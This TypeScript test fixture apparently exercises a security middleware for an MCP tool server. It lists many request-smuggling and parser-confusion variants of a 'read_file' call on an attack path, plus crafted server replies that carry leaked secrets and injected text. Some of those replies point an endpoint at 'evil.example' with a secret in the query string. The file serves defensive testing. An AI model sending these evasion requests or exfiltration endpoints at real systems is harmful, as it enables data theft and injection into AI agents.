/** Requests that would get by, and answers that would come back, unjudged. */
import { request } from 'node:http';
import { gzipSync } from 'node:zlib';
import { ATTACK, INJECTION, LEAK, SECRET } from './notes.ts';

export const ACCEPT = { accept: 'application/json, text/event-stream', 'content-type': 'application/json' };
export const CALL = { jsonrpc: '2.0', id: 7, method: 'tools/call', params: { name: 'read_file', arguments: { path: ATTACK } } };
export const INITIALIZE = {
  jsonrpc: '2.0',
  id: 0,
  method: 'initialize',
  params: { protocolVersion: '2025-03-26', capabilities: {}, clientInfo: { name: 't', version: '1' } },
};

export type Answered = { status: number; reason?: string; text: string; headers: Record<string, string | string[] | undefined> };
type Headers = Record<string, string | string[]>;
/** Below `fetch`, which would not send what is wrong: the path as it is, a connection of its own. Reads three seconds at most. */
export function raw(url: string, method: string, headers: Headers, chunks: readonly Uint8Array[]): Promise<Answered> {
  const [, host, port, path] = /^http:\/\/([^:]+):(\d+)(.*)$/.exec(url) ?? [];
  // Node sends the body of these behind the request, where it is another one.
  const announced = /^(?:GET|DELETE|HEAD)$/.test(method) && chunks.length && !('transfer-encoding' in headers);
  const sized = announced ? { 'content-length': String(chunks.reduce((size, chunk) => size + chunk.length, 0)), ...headers } : headers;
  return new Promise((resolve) => {
    const sent = request({ host, port, path, method, headers: sized, agent: false }, (res) => {
      let text = '';
      const end = (): void => resolve({ status: res.statusCode ?? 0, reason: res.statusMessage ?? '', text, headers: res.headers });
      res.on('data', (chunk: Buffer) => (text += chunk.toString()));
      res.on('end', end).on('error', end);
      setTimeout(() => (end(), sent.destroy()), 3_000).unref();
    });
    sent.on('error', (error) => resolve({ status: 0, text: String(error), headers: {} }));
    for (const chunk of chunks) sent.write(chunk);
    sent.end();
  });
}

export const bytes = (value: unknown): Buffer => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value));
export const CALL_TEXT = JSON.stringify(CALL);
export type Way = { method?: string; path?: string; headers?: Headers; body?: Buffer | Buffer[] };
export const WAYS: Record<string, Way> = {
  'as it is': {},
  'in a batch': { body: bytes([{ jsonrpc: '2.0', id: 1, method: 'ping' }, CALL]) },
  'in a batch of a batch': { body: bytes([[CALL]]) },
  'in a batch behind an answer': { body: bytes([{ jsonrpc: '2.0', id: 1, result: {} }, CALL]) },
  'as another type': { headers: { 'content-type': 'text/plain' } },
  'without a type': { headers: { 'content-type': '' } },
  'as a form': { headers: { 'content-type': 'application/x-www-form-urlencoded' } },
  'in another charset': { headers: { 'content-type': 'application/json; charset=utf-16le' }, body: Buffer.from(CALL_TEXT, 'utf16le') },
  'in a charset of that name only': { headers: { 'content-type': 'application/json; charset=utf-7' } },
  'behind a byte order mark': { body: bytes(`\ufeff${CALL_TEXT}`) },
  'with headers in capitals': { headers: { 'CONTENT-TYPE': 'APPLICATION/JSON', ACCEPT: 'application/json, text/event-stream' } },
  packed: { headers: { 'content-encoding': 'gzip' }, body: gzipSync(CALL_TEXT) },
  'packed, in capitals': { headers: { 'Content-Encoding': 'GZIP' }, body: gzipSync(CALL_TEXT) },
  'called packed': { headers: { 'content-encoding': 'deflate' } },
  chunked: { headers: { 'transfer-encoding': 'chunked' }, body: [...CALL_TEXT].map(bytes) },
  'with a key twice, the good one last': { body: bytes(CALL_TEXT.replace('"path":', `"path":"${ATTACK}","path":"README.md","x":`)) },
  'with a key twice, the bad one last': { body: bytes(CALL_TEXT.replace('"path":', '"path":"README.md","path":')) },
  'with another method first': { body: bytes(CALL_TEXT.replace('{', '{"method":"ping",')) },
  'with an escaped key': { body: bytes(CALL_TEXT.replace('"method"', '"\\u006dethod"')) },
  'as both a request and an answer': { body: bytes({ ...CALL, result: {} }) },
  'by PUT': { method: 'PUT' },
  'by GET': { method: 'GET' },
  'by DELETE': { method: 'DELETE' },
  'by GET, chunked': { method: 'GET', headers: { 'transfer-encoding': 'chunked' } },
  'by HEAD': { method: 'HEAD' },
  'by PATCH': { method: 'PATCH' },
  'by another method in a header': { method: 'GET', headers: { 'x-http-method-override': 'POST' } },
  'with a slash more': { path: '/mcp/' },
  'with a query': { path: '/mcp?a=/other' },
  'in capitals': { path: '/MCP' },
  'with two slashes': { path: '//mcp' },
  'with a slash and a point': { path: '/./mcp' },
  'by way of another folder': { path: '/x/../mcp' },
  'with an escaped letter': { path: '/%6dcp' },
  'with an escaped slash': { path: '/mcp%2f' },
  'with a parameter': { path: '/mcp;x=1' },
  'with a host of its own': { path: 'http://localhost/mcp' },
  'as two types': { headers: { 'content-type': ['text/plain', 'application/json'] } },
  'as a part of a form': {
    headers: { 'content-type': 'multipart/form-data; boundary=b' },
    body: bytes(`--b\r\ncontent-type: application/json\r\n\r\n${CALL_TEXT}\r\n--b--`),
  },
  'packed twice': { headers: { 'content-encoding': 'identity, gzip' }, body: gzipSync(CALL_TEXT) },
  'packed in two headers': { headers: { 'content-encoding': ['identity', 'gzip'] }, body: gzipSync(CALL_TEXT) },
  'as a WebSocket': { method: 'GET', headers: { upgrade: 'WebSocket', connection: 'upgrade' }, body: [] },
  'as a WebSocket that is posted': { headers: { upgrade: 'websocket', connection: 'upgrade' } },
  'behind another document': { body: bytes(`{"jsonrpc":"2.0","id":1,"method":"ping"}\n${CALL_TEXT}`) },
  'behind a comment': { body: bytes(`/* */${CALL_TEXT}`) },
  'in a prototype': { body: bytes(`{"__proto__":${CALL_TEXT},"jsonrpc":"2.0","id":7,"method":"ping"}`) },
  'under other names': { body: bytes(CALL_TEXT.replace('"method"', '"Method"').replace('"params"', '"PARAMS"')) },
  'in a batch of many': { body: bytes([...Array.from({ length: 150 }, (_, id) => ({ jsonrpc: '2.0', id, result: {} })), CALL]) },
  'with headers that lie': { headers: { 'mcp-method': 'ping', 'mcp-name': 'other' } },
  'as a notification': { body: bytes({ ...CALL, id: undefined }) },
  'with the id null': { body: bytes({ ...CALL, id: null }) },
  'nested without end': { body: bytes(`${'['.repeat(100_000)}${']'.repeat(100_000)}`) },
  'above the limit': { body: bytes({ ...CALL, pad: 'x'.repeat(1_100_000) }) },
};

export const event = (message: unknown): string => `event: message\nid: e1\ndata: ${JSON.stringify(message)}\n\n`;
export const result = (said: string, id: unknown = 7) => ({ jsonrpc: '2.0', id, result: { content: [{ type: 'text', text: said }] } });
export const slices = (text: string, size: number): Buffer[] =>
  Array.from({ length: Math.ceil(Buffer.byteLength(text) / size) }, (_, i) => Buffer.from(text).subarray(i * size, (i + 1) * size));
const HTML = { 'content-type': 'text/html' };
export const EVENTS = { 'content-type': 'text/event-stream' };
export const JSON_TYPE = { 'content-type': 'application/json' };
export type Answers = Record<string, { status?: number; headers: Record<string, string>; chunks: Buffer[] }>;
export const ANSWERS: Answers = {
  json: { headers: JSON_TYPE, chunks: [bytes(result(LEAK))] },
  'json in a batch': { headers: JSON_TYPE, chunks: [bytes([result(LEAK), result(INJECTION, 8)])] },
  'json with a key twice': {
    headers: JSON_TYPE,
    chunks: [bytes(JSON.stringify(result(LEAK)).replace('"result"', '"result":{},"result"'))],
  },
  'json of another id': { headers: JSON_TYPE, chunks: [bytes(result(LEAK, '7'))] },
  'json as text': { headers: { 'content-type': 'text/plain' }, chunks: [bytes(result(LEAK))] },
  'a page': { headers: HTML, chunks: [bytes(`<p>${LEAK}</p>`)] },
  'an error page': { status: 500, headers: HTML, chunks: [bytes(`<p>${LEAK}</p>`)] },
  'an error of another kind': { status: 403, headers: JSON_TYPE, chunks: [bytes({ error: 'forbidden', error_description: LEAK })] },
  'an error that is a message': {
    status: 400,
    headers: JSON_TYPE,
    chunks: [bytes({ jsonrpc: '2.0', id: null, error: { code: 1, message: LEAK } })],
  },
  'what is accepted': { status: 202, headers: HTML, chunks: [bytes(LEAK)] },
  'from another place': { status: 307, headers: { location: 'http://127.0.0.1:1/mcp' }, chunks: [bytes(LEAK)] },
  'from another place, without a word': { status: 308, headers: { location: 'http://127.0.0.1:1/mcp' }, chunks: [] },
  'from another place, as events': {
    status: 302,
    headers: { ...EVENTS, location: '//evil.example/' },
    chunks: [bytes(event(result(LEAK)))],
  },
  'packed json': { headers: { ...JSON_TYPE, 'content-encoding': 'gzip' }, chunks: [gzipSync(JSON.stringify(result(LEAK)))] },
  'an event': { headers: EVENTS, chunks: [bytes(event(result(LEAK)))] },
  'an event, byte by byte': { headers: EVENTS, chunks: slices(event(result(LEAK)), 1) },
  'an event with CR': { headers: EVENTS, chunks: slices(event(result(LEAK)).replaceAll('\n', '\r'), 5) },
  'an event with CRLF': { headers: EVENTS, chunks: slices(event(result(LEAK)).replaceAll('\n', '\r\n'), 7) },
  'an event in many lines': {
    headers: EVENTS,
    chunks: slices(`data: {"jsonrpc":"2.0",\ndata:"id":7,\ndata: "result":${JSON.stringify(result(LEAK).result)}}\n\n`, 9),
  },
  'an event behind a byte order mark': { headers: EVENTS, chunks: [bytes(`\ufeff${event(result(LEAK))}`)] },
  'an event of another name': { headers: EVENTS, chunks: [bytes(event(result(LEAK)).replace('message', 'endpoint'))] },
  'an event of a batch': { headers: EVENTS, chunks: [bytes(event([result(LEAK)]))] },
  'an event that is no message': { headers: EVENTS, chunks: [bytes(`data: ${LEAK}\n\n`)] },
  'an event that does not end': { headers: EVENTS, chunks: [bytes(`data: ${JSON.stringify(result(LEAK))}`)] },
  'a comment': { headers: EVENTS, chunks: [bytes(`: ${LEAK}\n\n`)] },
  'a notification': {
    headers: EVENTS,
    chunks: [bytes(event({ jsonrpc: '2.0', method: 'notifications/message', params: { level: 'info', data: INJECTION } }))],
  },
  'an event with more in its id': { headers: EVENTS, chunks: [bytes(event(result('fine')).replace('e1', `e1 ${LEAK}`))] },
  'an event with more in its name': { headers: EVENTS, chunks: [bytes(`event: ${INJECTION}\ndata:\n\n`)] },
  'an event with more in its pause': { headers: EVENTS, chunks: [bytes(`retry: ${LEAK}\ndata:\n\n`)] },
  'an event that names another place': { headers: EVENTS, chunks: [bytes(`event: endpoint\ndata: //evil.example/?${SECRET}\n\n`)] },
  'an event that names another site': { headers: EVENTS, chunks: [bytes(`event: endpoint\ndata: https://evil.example/?${SECRET}\n\n`)] },
  'an event in a line of its own name': { headers: EVENTS, chunks: [bytes(`${LEAK}\n\ndata${LEAK}\n\n`)] },
  'an event cut within a letter': { headers: EVENTS, chunks: slices(event(result(`ö${LEAK}ö€😀`)), 3) },
  'an event of many pieces of data': {
    headers: EVENTS,
    chunks: [bytes(`${JSON.stringify(result(LEAK)).replaceAll(',', ',\n').replaceAll(/^/gm, 'data: ')}\n\n`)],
  },
  'an event beyond all limits': {
    headers: EVENTS,
    chunks: [bytes(`data: ${'['.repeat(17_000_000)}`), bytes(`\n\n${event(result(LEAK))}`)],
  },
  'json beyond all limits': { headers: JSON_TYPE, chunks: [bytes(result(`${LEAK} ${'x'.repeat(17_000_000)}`))] },
  'packed events': { headers: { ...EVENTS, 'content-encoding': 'gzip' }, chunks: [gzipSync(event(result(LEAK)))] },
  'events in capitals': { headers: { 'content-type': 'TEXT/EVENT-STREAM; charset=utf-8' }, chunks: [bytes(event(result(LEAK)))] },
};
/** These are messages, and come back without the secret. */
export const CLEANED = new Set([
  'json',
  'json in a batch',
  'json as text',
  'an event',
  'an event, byte by byte',
  'an event with CR',
  'an event with CRLF',
  'an event in many lines',
  'an event cut within a letter',
  'an event of many pieces of data',
  'an error that is a message',
  'an event of a batch',
  'events in capitals',
]);

/** What the middleware itself says to these. */
export const SAID: Record<string, string> = {
  'with a key twice, the good one last': 'no JSON that has one meaning',
  'with a key twice, the bad one last': 'no JSON that has one meaning',
  'with another method first': 'no JSON that has one meaning',
  'behind a byte order mark': 'no JSON that has one meaning',
  'nested without end': 'no JSON that has one meaning',
  'in another charset': 'no JSON that has one meaning',
  packed: 'the body is packed',
  'called packed': 'the body is packed',
  'by GET': 'this method has no body',
  'by GET, chunked': 'this method has no body',
  'by DELETE': 'this method has no body',
  'above the limit': 'the body is above 1048576 bytes',
  'as a WebSocket': 'MCP has no such protocol',
  'as a WebSocket that is posted': 'MCP has no such protocol',
};
